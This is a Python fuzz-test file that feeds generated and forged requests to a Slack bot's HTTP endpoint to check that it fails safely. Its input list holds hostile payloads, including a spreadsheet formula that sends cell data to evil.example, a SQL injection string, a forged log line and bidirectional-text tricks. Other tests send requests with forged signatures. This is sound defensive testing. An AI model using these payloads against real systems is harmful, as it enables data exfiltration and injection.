"""Property-based fuzzing (hypothesis) of every way into the bot, through the real HTTP
endpoint, on SQLite and PostgreSQL: every /dks subcommand, every action_id, every modal
callback_id, the type-aheads and the events, with generated values (Unicode, control
characters, huge, wrong types, ids of other rows and workspaces), signed and not.

Each request must pass tests/fuzz_world.py's checks: no 5xx, no 404, no traceback or
"didn't call ack" in the log, Block Kit that slack_sdk.models accepts, and another
workspace's rows unchanged. The seed is fixed (`derandomize`) and the example budget keeps
each backend near a minute; `DKS_FUZZ_EXAMPLES` scales it, `DKS_FUZZ_SURVEY=1` counts every
problem instead of stopping at the first (the figures are printed either way).
"""

from __future__ import annotations

import json
import os
import re
import secrets
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.app import create_app
from bot.server import create_wsgi_app
from bot.settings import Settings
from bot.shell.fakeslack import FakeSlack
from bot.shell.signing import (
    block_suggestion_body,
    event_body,
    signed_headers,
    slash_command_body,
    view_submission_body,
)
from handlers.core.services import Services
from storage.db import make_engine, upgrade
from tests.conftest import (
    ADMIN,
    CHANNEL,
    DB_BACKENDS,
    MEMBER,
    TEAM,
    FrozenClock,
    SlackDriver,
    _postgres_database,
    serve_wsgi,
)
from tests.fuzz_world import (
    STATE_KEYS,
    USERS,
    VICTIM,
    VICTIM_CHANNEL,
    VICTIM_USER,
    Listened,
    Tally,
    World,
    block_actions,
    build_world,
    close_world,
    harvest,
    listened_to,
    subcommand_words,
)

SCALE = float(os.environ.get("DKS_FUZZ_EXAMPLES", "1"))
REPORT = os.environ.get("DKS_FUZZ_REPORT", "")
LISTENED: Listened = listened_to()
WORDS = subcommand_words()


def fuzz_settings(examples: int) -> Any:
    return settings(
        max_examples=max(1, int(examples * SCALE)),
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
        ],
    )


# --- the world, once per database backend -----------------------------------------------------


@pytest.fixture(scope="module", params=DB_BACKENDS)
def world(request: pytest.FixtureRequest, tmp_path_factory: Any) -> Iterator[World]:
    """Two workspaces in a fresh database, the fake Slack, the App behind the real HTTP
    endpoint, and the bot's own UI harvested."""
    databases: Any = None  # the PostgreSQL database generator, closed (dropped) at the end
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('fuzz') / 'dks.db'}"
    else:
        databases = _postgres_database()
        url = next(databases)
    engine = make_engine(url)
    upgrade(engine)
    with FakeSlack(team_id=TEAM) as fake:
        fake.add_user(ADMIN, "Kari Koordinator", admin=True)
        fake.add_user(MEMBER, "Per Kulturkontakt")
        fake.add_channel(CHANNEL, "dks", member=True)
        options: dict[str, Any] = {}
        if "public_url" in Settings.__dataclass_fields__:
            options["public_url"] = "https://dks.example.no"  # so /dks kalender shows its buttons
        used = Settings(
            slack_bot_token="xoxb-test-token",
            slack_signing_secret=secrets.token_hex(16),
            slack_api_url=fake.api_url,
            database_url=engine.url.render_as_string(hide_password=False),
            **options,
        )
        clock = FrozenClock(datetime(2026, 11, 24, 9, 0, tzinfo=UTC))
        services = Services(settings=used, engine=engine, clock=clock)
        app = create_app(used, services=services)
        address, server = serve_wsgi(create_wsgi_app(app, engine))
        http = httpx.Client(timeout=10)
        driver = SlackDriver(
            app=app, services=services, fake=fake, settings=used, url=address, http=http
        )
        built = build_world(driver, engine)
        built.backend = request.param  # type: ignore[attr-defined]
        try:
            harvest(built, WORDS)
            print(
                built.tally.line(f"harvest[{request.param}]"),
                f"\n    {len(built.elements)} action_ids on the bot's own surfaces; modals: "
                + ", ".join(f"{k}×{len(v)}" for k, v in sorted(built.modals.items())),
            )
            for example in list(built.tally.examples.values())[:20]:
                print("   ", example[:400])
            yield built
        finally:
            built.tally = Tally()
            close_world(built)
            http.close()
            server.shutdown()
            server.server_close()
            engine.dispose()
    if databases is not None:
        databases.close()


@pytest.fixture
def checked(world: World, request: pytest.FixtureRequest) -> Iterator[World]:
    """The world with a fresh tally; the figures are printed (and kept) after the test."""
    world.tally = Tally()
    yield world
    world.settle()
    line = world.tally.line(f"{request.node.name.split('[')[0]}[{world.backend}]")  # type: ignore[attr-defined]
    print(line)
    for example in list(world.tally.examples.values())[:20]:
        print("   ", example[:400])
    if REPORT:
        with open(REPORT, "a", encoding="utf-8") as out:
            out.write(line + "\n")
            for example in world.tally.examples.values():
                out.write("    " + example[:1500].replace("\n", "\\n") + "\n")


# --- values a user (or an attacker) sends -----------------------------------------------------

SPICY = [
    "<!channel>",
    "<!here>",
    f"<@{VICTIM_USER}>",
    f"<#{VICTIM_CHANNEL}|victim>",
    f"<#{CHANNEL}|dks>",
    "<!subteam^S0123ABC>",
    "<https://evil.example|Klikk>",
    "*fet* _kursiv_ ~streket~ `kode`",
    '=HYPERLINK("http://evil.example/?x="&A2,"Klikk")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "²",
    "①",
    "٣",
    "1e400",
    str(2**31),
    str(2**63),
    str(2**64),
    "-0",
    "NaN",
    "null",
    "[]",
    "{}",
    "%s %d {0}",
    "\\",
    "'; DROP TABLE deadline; --",
    "\n2026-12-04 13:00:00,000 ERROR forged line",
    "\u000b\u0000\u001f\u007f",
    "\u202eevil\u202c",
    "\ufeff\u200b",
    "æøå ÆØÅ",
    "😀👩‍👩‍👧",
    "31.02.2027",
    "2027-02-30",
    "12. februar 2027",
    "25:61",
    "0",
]

texts = st.one_of(
    st.text(max_size=40),
    st.sampled_from(SPICY),
    st.lists(st.one_of(st.sampled_from(SPICY), st.text(max_size=8)), max_size=4).map(" ".join),
    st.text(st.characters(codec="utf-8", max_codepoint=0x3000), max_size=30),
    st.integers(min_value=2_000, max_value=40_000).map(
        lambda n: ("æ\u000b<!here>ø" * (n // 10 + 1))[:n]
    ),
)
wrong_types = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
)


@st.composite
def ids(draw: Any, world: World) -> int:
    return draw(
        st.one_of(
            st.sampled_from(world.victim_ids),
            st.sampled_from(world.own_ids),
            st.sampled_from([0, -1, 2**31, 2**63, 2**64, 10**30]),
            st.integers(min_value=-(2**40), max_value=2**40),
        )
    )


@st.composite
def mutated(draw: Any, world: World, original: str) -> str:
    """The bot's own value with its numbers replaced: other rows', other workspaces', huge."""
    numbers = st.one_of(ids(world).map(str), st.sampled_from(["²", "①", "1e400", "", "-0"]))
    return re.sub(r"\d+", lambda _m: draw(numbers), original)


@st.composite
def crafted_values(draw: Any, world: World, seen: list[str]) -> Any:
    """What no Slack sends for this element: the bot's own value mutated, invented, or of a
    wrong type."""
    choices = [texts, ids(world).map(str), wrong_types]
    if seen:
        choices.append(st.sampled_from(seen).flatmap(lambda v: mutated(world, v)))
    return draw(st.one_of(*choices))


def option(value: Any, text: Any = "Valg") -> dict[str, Any]:
    return {"text": {"type": "plain_text", "text": text, "emoji": True}, "value": value}


def users() -> st.SearchStrategy[str]:
    return st.sampled_from(USERS)


def matching(constraint: str | re.Pattern[str], action_id: str) -> bool:
    if isinstance(constraint, str):
        return constraint == action_id
    return constraint.fullmatch(action_id) is not None


@st.composite
def action_ids(draw: Any, constraints: list[str | re.Pattern[str]]) -> str:
    constraint = draw(st.sampled_from(constraints))
    if isinstance(constraint, str):
        return constraint
    return draw(st.from_regex(constraint, fullmatch=True).filter(lambda s: len(s) < 255))


def any_surface(world: World) -> list[dict[str, Any]]:
    surfaces = [surface for found in world.elements.values() for _e, surface in found]
    return surfaces or [{"_surface": "message", "text": "x", "blocks": []}]


# --- the tests ------------------------------------------------------------------------------
#
# Each test draws `crafted`: False is what Slack can send (typed text of any kind, the bot's
# own buttons and options on the surface that shows them), and must be answered 200; True is
# what only a forger could sign (mutated ids, wrong types, a button on another surface), and
# may also be answered 400. Neither may cause a 5xx, a traceback or a change elsewhere.


@fuzz_settings(400)
@given(data=st.data())
def test_every_subcommand_with_any_words(checked: World, data: st.DataObject) -> None:
    names = sorted(WORDS)
    name = data.draw(st.one_of(st.sampled_from(names), texts), label="subcommand")
    vocabulary = WORDS.get(name, []) or ["x"]
    words = data.draw(
        st.lists(
            st.one_of(
                st.sampled_from(vocabulary),
                st.sampled_from(vocabulary).flatmap(lambda w: mutated(checked, w)),
                texts,
                ids(checked).map(str),
            ),
            max_size=4,
        ),
        label="words",
    )
    body = slash_command_body(
        text=" ".join([name, *words]),
        team_id=TEAM,
        user_id=data.draw(users()),
        channel_id=data.draw(st.sampled_from([CHANNEL, VICTIM_CHANNEL, "C0NONE", "D0DM"])),
        response_url=checked.slack.fake.response_url(),
    )
    checked.send(body)


@st.composite
def clicks(draw: Any, world: World, crafted: bool) -> tuple[str, bool]:
    action_id = draw(action_ids(LISTENED.actions))
    found = [
        (element, surface)
        for aid, pairs in world.elements.items()
        if aid == action_id
        for element, surface in pairs
        if element.get("_clicks")
    ]
    if not found and not crafted:
        crafted = True  # the bot drew no such element where the harvest looked
    element, surface = draw(st.sampled_from(found)) if found else ({}, None)
    kind = element.get("type") or draw(
        st.sampled_from(["button", "overflow", "static_select", "users_select"])
    )
    action: dict[str, Any] = {
        "action_id": action_id,
        "type": kind,
        "action_ts": f"{time.time():.6f}",
        "block_id": element.get("_block_id", ""),
    }
    if kind == "button":
        action["value"] = element.get("value", "")
        action["text"] = element.get("text")
    elif kind == "users_select":
        action["selected_user"] = draw(users())
    elif element.get("options"):
        action["selected_option"] = draw(st.sampled_from(element["options"]))
    if crafted:
        seen = [str(element["value"])] if element.get("value") is not None else []
        seen += [str(o.get("value")) for o in element.get("options") or []]
        value = draw(crafted_values(world, seen))
        target = draw(st.sampled_from(["value", "selected_option", "type", "block_id", "none"]))
        if target == "selected_option":
            action[target] = draw(st.one_of(st.builds(option, st.just(value), texts), wrong_types))
        elif target == "block_id":
            action[target] = draw(st.one_of(mutated(world, action["block_id"]), texts))
        elif target != "none":
            action[target] = value
        surface = draw(st.sampled_from(any_surface(world))) if draw(st.booleans()) else surface
    chosen = dict(surface or draw(st.sampled_from(any_surface(world))))
    if crafted and chosen.get("_surface") != "message" and draw(st.booleans()):
        metadata = str(chosen.get("private_metadata") or "")
        chosen["private_metadata"] = draw(
            st.one_of(mutated(world, metadata), texts, wrong_types.map(json.dumps))
        )
    body = block_actions(
        chosen,
        action,
        action["block_id"],
        user=draw(users()),
        team=TEAM,
        fake_response_url=world.slack.fake.response_url(),
    )
    return body, crafted


@fuzz_settings(600)
@given(data=st.data())
def test_every_button_and_menu_with_any_value(checked: World, data: st.DataObject) -> None:
    body, crafted = data.draw(clicks(checked, data.draw(st.booleans())), label="click")
    checked.send(body, malformed=crafted)


@st.composite
def typed_value(draw: Any, world: World, element: dict[str, Any]) -> Any:
    """What Slack reports for one input the user filled in as the form allows."""
    kind = element.get("type", "plain_text_input")
    options = element.get("options") or []
    if kind == "datepicker":
        return draw(st.dates().map(lambda d: d.isoformat()))
    if kind == "timepicker":
        return draw(st.times().map(lambda t: t.strftime("%H:%M")))
    if kind in ("static_select", "radio_buttons") and options:
        return draw(st.sampled_from(options))
    if kind == "external_select":
        return draw(st.builds(option, st.sampled_from(world.own_ids).map(str), texts))
    if kind == "users_select":
        return draw(users())
    if kind in ("checkboxes", "multi_static_select"):
        return draw(st.lists(st.sampled_from(options), unique_by=lambda o: o["value"]))
    if kind == "file_input":
        return draw(st.lists(uploaded(world), min_size=1, max_size=1))
    if kind == "number_input":
        return draw(st.integers(min_value=-(10**6), max_value=10**7).map(str))
    limit = element.get("max_length")
    text = draw(texts)
    return text[:limit] if isinstance(limit, int) else text


@st.composite
def uploaded(draw: Any, world: World) -> Any:
    name = draw(st.sampled_from(["kontakter.csv", "kalender.yaml", "liste.txt", "x.csv"]))
    content = draw(
        st.one_of(
            st.binary(max_size=300),
            st.lists(
                st.lists(st.one_of(texts, ids(world).map(str)), min_size=1, max_size=6).map(
                    lambda cells: ";".join(str(c).replace("\n", " ") for c in cells)
                ),
                max_size=6,
            ).map(
                lambda lines: (
                    "skole;kommune;navn;rolle;e-post;telefon\n" + "\n".join(lines)
                ).encode("utf-8", "surrogatepass")
            ),
        )
    )
    return world.slack.fake.add_file(name, content, user=ADMIN)


@st.composite
def submissions(draw: Any, world: World, crafted: bool) -> tuple[str, bool]:
    callback_id = draw(action_ids(LISTENED.views))
    known = world.modals.get(callback_id) or []
    if known:
        view = dict(draw(st.sampled_from(known)))
    else:
        crafted = True
        view = {"type": "modal", "id": "V0FUZZ", "callback_id": callback_id, "blocks": []}
    if crafted and draw(st.booleans()):
        view["private_metadata"] = draw(
            st.one_of(
                mutated(world, str(view.get("private_metadata") or "")),
                texts,
                wrong_types.map(json.dumps),
            )
        )
    state: dict[str, Any] = {}
    for block in view.get("blocks") or []:
        element = block.get("element") if block.get("type") == "input" else None
        if not isinstance(element, dict):
            continue
        kind = element.get("type", "plain_text_input")
        if crafted and draw(st.integers(0, 4)) == 0:
            if draw(st.booleans()):
                continue  # a field left out
            value: Any = draw(st.one_of(wrong_types, texts, crafted_values(world, [])))
        elif block.get("optional") and draw(st.integers(0, 3)) == 0:
            value = None
        else:
            value = draw(typed_value(world, element))
        key = STATE_KEYS.get(kind, ("value", ""))[0]
        state[block["block_id"]] = {element.get("action_id", "x"): {"type": kind, key: value}}
    user = draw(users())
    return view_submission_body(team_id=TEAM, user_id=user, view=view, values=state), crafted


@fuzz_settings(500)
@given(data=st.data())
def test_every_form_with_any_input(checked: World, data: st.DataObject) -> None:
    body, crafted = data.draw(submissions(checked, data.draw(st.booleans())), label="form")
    checked.send(body, malformed=crafted)


@st.composite
def suggestions(draw: Any, world: World, crafted: bool) -> str:
    action_id = draw(action_ids(LISTENED.options))
    found = list(world.elements.get(action_id, []))
    element, surface = draw(st.sampled_from(found)) if found else ({}, None)
    view = surface if surface and surface.get("_surface") != "message" else None
    block_id = element.get("_block_id", "b")
    if crafted:
        block_id = draw(st.one_of(st.just(block_id), texts))
        view = draw(st.one_of(st.just(view), st.none()))
    return block_suggestion_body(
        team_id=TEAM,
        user_id=draw(users()),
        action_id=action_id,
        block_id=block_id,
        value=draw(st.one_of(texts, ids(world).map(str))),
        view=view,
    )


@fuzz_settings(300)
@given(data=st.data())
def test_every_type_ahead_with_anything_typed(checked: World, data: st.DataObject) -> None:
    crafted = data.draw(st.booleans(), label="crafted")
    checked.send(data.draw(suggestions(checked, crafted), label="suggestion"), malformed=crafted)


@st.composite
def events(draw: Any, world: World, crafted: bool) -> str:
    event: dict[str, Any] = {"type": draw(st.sampled_from(LISTENED.events))}
    for key, strategy in {
        "user": st.one_of(users(), st.just("U0DKSBOT")),
        "channel": st.sampled_from([CHANNEL, VICTIM_CHANNEL, "D0HOME", "C0NONE"]),
        "tab": st.sampled_from(["home", "messages", "about"]),
        "team": st.sampled_from([TEAM, VICTIM]),
        "tokens": st.just({"bot": ["U0DKSBOT"]}),
        "channel_type": st.sampled_from(["C", "G"]),
    }.items():
        if draw(st.booleans()):
            event[key] = draw(st.one_of(strategy, wrong_types, texts) if crafted else strategy)
    return event_body(
        team_id=TEAM,
        event=event,
        event_id="Ev" + draw(st.text(st.sampled_from("0123456789ABCDEF"), min_size=8, max_size=12)),
    )


@fuzz_settings(200)
@given(data=st.data())
def test_every_event_with_any_fields(checked: World, data: st.DataObject) -> None:
    crafted = data.draw(st.booleans(), label="crafted")
    checked.send(data.draw(events(checked, crafted), label="event"), malformed=crafted)


# --- forged and malformed ---------------------------------------------------------------------


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@st.composite
def malformed_bodies(draw: Any) -> str:
    """What no Slack sends: broken JSON, wrong shapes, deep nesting, huge numbers."""
    payloads = [
        "not json",
        "[]",
        "null",
        "1e400",
        '"text"',
        nested(5000),
        json.dumps({"type": "block_actions", "actions": None}),
        json.dumps({"type": "block_actions", "actions": "x", "user": None, "team": []}),
        json.dumps({"type": "block_actions", "actions": [None, 5]}),
        json.dumps({"type": "block_actions", "actions": [{"action_id": 5, "value": 1e300}]}),
        json.dumps({"type": "view_submission", "view": 5}),
        json.dumps({"type": "view_submission", "view": {"callback_id": None, "state": []}}),
        json.dumps({"type": "block_suggestion", "action_id": None, "value": []}),
        json.dumps({"type": "shortcut", "callback_id": "x"}),
        json.dumps({"type": 5}),
    ]
    kind = draw(st.sampled_from(["payload", "json", "form"]))
    if kind == "payload":
        raw = draw(st.one_of(st.sampled_from(payloads), texts))
        return "payload=" + raw if draw(st.booleans()) else interaction_body_raw(raw)
    if kind == "json":
        return draw(
            st.sampled_from(
                [
                    "[]",
                    "{",
                    nested(5000),
                    json.dumps({"type": "event_callback", "event": None, "team_id": TEAM}),
                    json.dumps({"type": "event_callback", "event": [], "team_id": None}),
                    json.dumps({"type": "url_verification", "challenge": None}),
                    json.dumps({"type": "event_callback", "event": {"type": None}}),
                    '{"team_id": 1e400, "event": {"type": "app_home_opened"}}',
                ]
            )
        )
    fields = draw(
        st.dictionaries(
            st.sampled_from(["command", "text", "team_id", "user_id", "channel_id", "payload"]),
            texts,
            max_size=5,
        )
    )
    from urllib.parse import urlencode

    return urlencode(fields)


def interaction_body_raw(raw: str) -> str:
    from urllib.parse import quote

    return "payload=" + quote(raw)


@st.composite
def any_body(draw: Any, world: World) -> str:
    return draw(
        st.one_of(
            clicks(world, True).map(lambda pair: pair[0]),
            submissions(world, True).map(lambda pair: pair[0]),
            suggestions(world, True),
            events(world, True),
            st.builds(
                lambda text, team: slash_command_body(
                    text=text,
                    team_id=team,
                    user_id=VICTIM_USER,
                    channel_id=VICTIM_CHANNEL,
                    response_url=world.slack.fake.response_url(),
                ),
                texts,
                st.sampled_from([TEAM, VICTIM]),
            ),
            malformed_bodies(),
        )
    )


@fuzz_settings(600)
@given(data=st.data())
def test_forged_and_malformed_requests_are_refused_calmly(
    checked: World, data: st.DataObject
) -> None:
    body = data.draw(any_body(checked), label="body")
    secret = checked.slack.settings.slack_signing_secret
    assert secret
    now = int(time.time())
    forgery = data.draw(
        st.sampled_from(
            ["signed", "none", "wrong secret", "stale", "future", "odd timestamp", "other body"]
        ),
        label="forgery",
    )
    if forgery == "signed":
        checked.send(body, malformed=True)
        return
    if forgery == "none":
        headers: dict[str, str] = {"content-type": "application/x-www-form-urlencoded"}
    elif forgery == "wrong secret":
        headers = signed_headers("0" * 32, body)
    elif forgery == "stale":
        headers = signed_headers(secret, body, timestamp=now - 600)
    elif forgery == "future":
        headers = signed_headers(secret, body, timestamp=now + 600)
    elif forgery == "odd timestamp":
        headers = signed_headers(secret, body)
        headers["x-slack-request-timestamp"] = data.draw(
            st.sampled_from(["abc", "1e3", "", "-1", str(2**70), "١٢٣", "12.5"])
        )
    else:
        headers = signed_headers(secret, body + "x")
    checked.send(body, headers=headers, signed=False)


@fuzz_settings(50)
@given(data=st.data())
def test_bytes_that_are_not_text_are_refused_calmly(checked: World, data: st.DataObject) -> None:
    raw = data.draw(st.binary(min_size=1, max_size=2000), label="bytes")
    response = checked.post(raw, headers={"content-type": "application/x-www-form-urlencoded"})
    checked.tally.requests += 1
    checked.tally.statuses[response.status_code] += 1
    if response.status_code >= 500 or response.status_code < 400:
        checked.problem("unsigned bytes", f"{response.status_code} to {raw[:80]!r}")
    checked.check_side_effects(repr(raw[:80]))


def test_every_listener_the_features_register_is_fuzzed() -> None:
    """The enumeration comes from the features' own registration, not a hand list."""
    from handlers.feedback.forms import FEEDBACK_CALLBACK_ID, PERFORMANCE_ACTION
    from handlers.home.views import HOME_NEW_DEADLINE

    assert HOME_NEW_DEADLINE in LISTENED.actions
    assert FEEDBACK_CALLBACK_ID in LISTENED.views
    assert PERFORMANCE_ACTION in LISTENED.options
    assert "member_joined_channel" in LISTENED.events
    assert {"frist", "påminnelser", "kalender", "admin", "ny"} <= set(WORDS)
    assert any(isinstance(a, re.Pattern) for a in LISTENED.actions)
